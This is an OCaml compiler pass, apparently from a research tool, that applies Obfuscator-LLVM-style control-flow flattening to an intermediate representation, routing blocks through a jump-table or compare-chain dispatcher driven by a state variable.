val transform : config -> Gp_ir.Ir.program -> Gp_ir.Ir.program
(** Alias of {!apply} in the shape [Codegen.Pipeline.compile] expects. *)
