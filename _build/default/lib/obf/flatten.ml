(* Control-flow flattening (paper §II-A(3), Obfuscator-LLVM -fla): every
   block returns to a central dispatcher that transfers control according
   to a state variable.  With [use_switch] (the default, matching how
   compilers lower large switches) the dispatcher is a jump table —
   injecting the indirect-jump gadgets the paper finds in flattened
   binaries; otherwise it is a compare-and-branch chain. *)

open Gp_ir

(* Normalize an arbitrary truth value to 0/1 and select between two
   constant state indices: st = (c != 0) * i1 + (1 - (c != 0)) * i2. *)
let select_state f st c i1 i2 =
  let norm = Ir.fresh_temp f in
  let l = Ir.fresh_temp f in
  let inv = Ir.fresh_temp f in
  let r = Ir.fresh_temp f in
  [ Ir.Cmp (Ir.Ne, norm, c, Ir.I 0L);
    Ir.Bin (Ir.Mul, l, Ir.T norm, Ir.I (Int64.of_int i1));
    Ir.Bin (Ir.Sub, inv, Ir.I 1L, Ir.T norm);
    Ir.Bin (Ir.Mul, r, Ir.T inv, Ir.I (Int64.of_int i2));
    Ir.Bin (Ir.Add, st, Ir.T l, Ir.T r) ]

let flatten_func ~use_switch (f : Ir.func) =
  match f.Ir.f_blocks with
  | [] | [ _ ] | [ _; _ ] -> ()   (* too small to be worth flattening *)
  | blocks ->
    let st = Ir.fresh_temp f in
    let l_dispatch = Ir.fresh_label f "dispatch" in
    (* leave blocks ending in Switch alone (e.g. a VM dispatcher): their
       targets must remain direct *)
    let flattenable =
      List.filter
        (fun b -> match b.Ir.b_term with Ir.Switch _ -> false | _ -> true)
        blocks
    in
    let index = List.mapi (fun i b -> (b.Ir.b_label, i)) flattenable in
    let idx l = List.assoc l index in
    let labels = Array.of_list (List.map (fun b -> b.Ir.b_label) flattenable) in
    if
      List.length flattenable < 3
      || not (List.mem_assoc (List.hd blocks).Ir.b_label index)
    then ()
    else begin
    (* rewrite terminators to route through the dispatcher *)
    List.iter
      (fun (b : Ir.block) ->
        match b.Ir.b_term with
        | Ir.Jmp l when List.mem_assoc l index ->
          b.Ir.b_instrs <- b.Ir.b_instrs @ [ Ir.Mov (st, Ir.I (Int64.of_int (idx l))) ];
          b.Ir.b_term <- Ir.Jmp l_dispatch
        | Ir.Br (c, l1, l2) when List.mem_assoc l1 index && List.mem_assoc l2 index ->
          b.Ir.b_instrs <- b.Ir.b_instrs @ select_state f st c (idx l1) (idx l2);
          b.Ir.b_term <- Ir.Jmp l_dispatch
        | Ir.Jmp _ | Ir.Br _ | Ir.Switch _ | Ir.Ret _ -> ())
      flattenable;
    (* dispatcher *)
    let dispatch =
      if use_switch then
        { Ir.b_label = l_dispatch; b_instrs = []; b_term = Ir.Switch (Ir.T st, labels) }
      else begin
        (* chain of compares, each in its own block *)
        let rec chain i =
          if i = Array.length labels - 1 then []
          else begin
            let this = if i = 0 then l_dispatch else Printf.sprintf "%s.c%d" l_dispatch i in
            let next = Printf.sprintf "%s.c%d" l_dispatch (i + 1) in
            let next_label = if i = Array.length labels - 2 then labels.(i + 1) else next in
            let t = Ir.fresh_temp f in
            { Ir.b_label = this;
              b_instrs = [ Ir.Cmp (Ir.Eq, t, Ir.T st, Ir.I (Int64.of_int i)) ];
              b_term = Ir.Br (Ir.T t, labels.(i), next_label) }
            :: chain (i + 1)
          end
        in
        match chain 0 with
        | [] -> { Ir.b_label = l_dispatch; b_instrs = []; b_term = Ir.Jmp labels.(0) }
        | first :: rest ->
          f.Ir.f_blocks <- f.Ir.f_blocks @ rest;
          first
      end
    in
    (* new entry: set the initial state, fall into the dispatcher *)
    let entry_label = (List.hd blocks).Ir.b_label in
    let l_moved = Ir.fresh_label f "flat_first" in
    let old_entry = List.hd blocks in
    let moved =
      { Ir.b_label = l_moved;
        b_instrs = old_entry.Ir.b_instrs;
        b_term = old_entry.Ir.b_term }
    in
    (* the old entry keeps its label/position but now just dispatches *)
    old_entry.Ir.b_instrs <- [ Ir.Mov (st, Ir.I (Int64.of_int (idx entry_label))) ];
    old_entry.Ir.b_term <- Ir.Jmp l_dispatch;
    (* the moved body takes the old entry's slot in the index *)
    let labels' =
      Array.map (fun l -> if l = entry_label then l_moved else l) labels
    in
    (match dispatch.Ir.b_term with
     | Ir.Switch (op, _) -> dispatch.Ir.b_term <- Ir.Switch (op, labels')
     | _ ->
       (* fix the chain blocks' targets *)
       List.iter
         (fun b ->
           match b.Ir.b_term with
           | Ir.Br (c, l1, l2) ->
             let fix l = if l = entry_label then l_moved else l in
             b.Ir.b_term <- Ir.Br (c, fix l1, fix l2)
           | Ir.Jmp l when l = entry_label -> b.Ir.b_term <- Ir.Jmp l_moved
           | _ -> ())
         f.Ir.f_blocks);
    f.Ir.f_blocks <- f.Ir.f_blocks @ [ moved; dispatch ]
    end

let run ?(use_switch = true) _rng (prog : Ir.program) =
  List.iter (flatten_func ~use_switch) prog.Ir.p_funcs;
  prog
